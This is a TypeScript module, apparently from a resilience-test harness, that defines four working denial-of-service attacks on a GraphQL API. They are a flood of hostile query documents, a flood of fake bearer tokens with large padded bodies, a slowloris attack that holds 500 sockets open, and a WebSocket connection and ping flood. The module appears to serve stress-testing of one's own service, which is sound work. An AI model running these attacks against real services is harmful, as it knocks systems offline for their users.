import { connect, type Socket } from 'node:net';
import { setTimeout as sleep } from 'node:timers/promises';
import { WebSocket } from 'ws';
import { hostileDocuments } from './documents.js';

interface Target {
  readonly address: string;
  /** Of the attacker, who is a caller too. */
  readonly apiKey: string;
}

/** Runs until the signal; gives what came of it, by the name of its outcome. */
export type Attack = (target: Target, signal: AbortSignal) => Promise<Record<string, number>>;

const SENDERS = 16;
const LORIS_CONNECTIONS = 500;
const SOCKET_BATCH = 20;

/** As fast as so many senders can, each waiting for its answers. */
function flood(next: (i: number) => { readonly authorization: string; readonly body: string }): Attack {
  return async ({ address }, signal) => {
    const outcomes: Record<string, number> = {};
    let sent = 0;
    const send = async (): Promise<void> => {
      while (!signal.aborted) {
        const { authorization, body } = next((sent += 1));
        const headers = { authorization, 'content-type': 'application/json' };
        const outcome = await fetch(`${address}/graphql`, { method: 'POST', headers, body, signal }).then(
          async (response) => {
            await response.body?.cancel();
            return String(response.status);
          },
          () => 'cut off',
        );
        outcomes[outcome] = (outcomes[outcome] ?? 0) + 1;
      }
    };
    await Promise.all(Array.from({ length: SENDERS }, send));
    return outcomes;
  };
}

const documents: Attack = (target, signal) => {
  const bodies = Object.values(hostileDocuments).map((query) => JSON.stringify({ query }));
  const next = (i: number) => ({ authorization: `Bearer ${target.apiKey}`, body: bodies[i % bodies.length]! });
  return flood(next)(target, signal);
};

const invalidTokens: Attack = flood((i) => ({
  authorization: `Bearer cck_${String(i).padStart(43, '0')}`,
  body: JSON.stringify({ query: '{ viewer { role } }', variables: { padding: 'x'.repeat(100_000) } }),
}));

/** Bodies that come a byte a second. */
const slowBodies: Attack = async ({ address, apiKey }, signal) => {
  const { hostname, port } = new URL(address);
  const outcomes = { opened: 0, closed: 0 };
  const sockets: Socket[] = [];
  const open = (): void => {
    const socket = connect(Number(port), hostname);
    outcomes.opened += 1;
    socket.on('error', () => undefined).on('close', () => (outcomes.closed += 1));
    socket.write(
      `POST /graphql HTTP/1.1\r\nhost: api\r\nauthorization: Bearer ${apiKey}\r\ncontent-type: application/json\r\ncontent-length: 1000000\r\n\r\n`,
    );
    sockets.push(socket);
  };
  for (let i = 0; i < LORIS_CONNECTIONS; i += 1) open();
  while (!signal.aborted) {
    for (const socket of sockets) if (socket.writable) socket.write(' ');
    await sleep(1_000);
  }
  for (const socket of sockets) socket.destroy();
  return outcomes;
};

/** Sockets that are opened and left, and one that sends as fast as it can. */
const sockets: Attack = async ({ address, apiKey }, signal) => {
  const outcomes: Record<string, number> = {};
  const opened: WebSocket[] = [];
  const open = (): WebSocket => {
    const socket = new WebSocket(`${address.replace('http', 'ws')}/graphql`, 'graphql-transport-ws');
    opened.push(socket);
    const note = (outcome: string) => (outcomes[outcome] = (outcomes[outcome] ?? 0) + 1);
    socket.on('error', () => undefined);
    socket.on('unexpected-response', (_request, { statusCode }) => note(`refused with ${statusCode}`));
    socket.on('open', () => note('opened'));
    return socket;
  };
  const busy = open();
  busy.on('open', () =>
    busy.send(JSON.stringify({ type: 'connection_init', payload: { authorization: `Bearer ${apiKey}` } })),
  );
  while (!signal.aborted) {
    for (let i = 0; i < SOCKET_BATCH; i += 1) open();
    if (busy.readyState === busy.OPEN && busy.bufferedAmount < 1_000_000) {
      for (let i = 0; i < 1_000; i += 1) busy.send('{"type":"ping"}');
    }
    await sleep(100);
  }
  for (const socket of opened) socket.terminate();
  return outcomes;
};

export const attacks: Readonly<Record<string, Attack>> = {
  'hostile documents of a caller': documents,
  'keys of nobody': invalidTokens,
  'bodies that never come': slowBodies,
  'a flood of sockets': sockets,
};
